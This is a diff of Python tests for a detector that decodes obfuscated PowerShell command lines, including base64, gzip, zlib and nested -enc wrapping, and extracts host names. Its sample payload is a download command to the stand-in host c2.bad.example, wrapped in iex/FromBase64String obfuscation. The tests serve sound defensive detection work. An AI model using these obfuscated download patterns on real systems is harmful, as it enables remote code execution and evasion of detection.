@@ -1,6 +1,8 @@
 """Which names and addresses stand in a command line, and what only looks like one."""
 
 import base64
+import gzip
+import zlib
 
 import pytest
 
@@ -73,3 +75,60 @@ def test_commands_one_inside_another_are_undone_three_deep():
 )
 def test_what_powershell_would_not_undo_is_left(text: str):
     assert list(decoded(text)) == []
+
+
+def literal(content: bytes) -> str:
+    return f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(content)}')))"
+
+
+def b64(content: bytes) -> str:
+    return base64.b64encode(content).decode()
+
+
+SAID = "iwr http://c2.bad.example/x"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        SAID.encode(),
+        SAID.encode("utf-16-le"),
+        gzip.compress(SAID.encode(), mtime=0),
+        zlib.compress(SAID.encode()),
+        zlib.compress(SAID.encode(), wbits=-15),
+        b"\x00\xfc\x90" + SAID.encode() + b"\x00",
+    ],
+    ids=["utf-8", "utf-16", "gzip", "zlib", "deflate", "among other bytes"],
+)
+def test_a_literal_of_base64_is_undone_however_it_was_written(content: bytes):
+    (text,) = decoded(literal(content))
+    assert names_in(text) == ("c2.bad.example",)
+
+
+def test_a_literal_may_stand_in_other_quotes_and_letters():
+    assert list(decoded(f'FROMBASE64STRING( "{b64(SAID.encode())}" )')) == [SAID]
+
+
+def test_literals_stand_inside_encoded_commands():
+    texts = list(decoded(f"powershell -enc {packed(literal(SAID.encode()))}"))
+    assert texts[-1] == SAID
+
+
+def test_a_bomb_costs_no_more_than_is_looked_at():
+    bomb = zlib.compress(b"a" * 20_000_000, 9)
+    (text,) = decoded(literal(bomb))
+    assert len(text) <= 32_768
+
+
+@pytest.mark.parametrize("text", ["FromBase64String($x)", "FromBase64String('====')", literal(b"")])
+def test_what_is_no_literal_is_left(text: str):
+    assert list(decoded(text)) == []
+
+
+def test_a_literal_that_is_no_base64_is_left():
+    assert list(decoded("FromBase64String('QUJDREVGR')")) == []
+
+
+def test_a_packed_literal_that_ends_too_early_is_taken_as_it_is():
+    (text,) = decoded(literal(zlib.compress(SAID.encode() * 20)[:-14]))
+    assert names_in(text) == ()
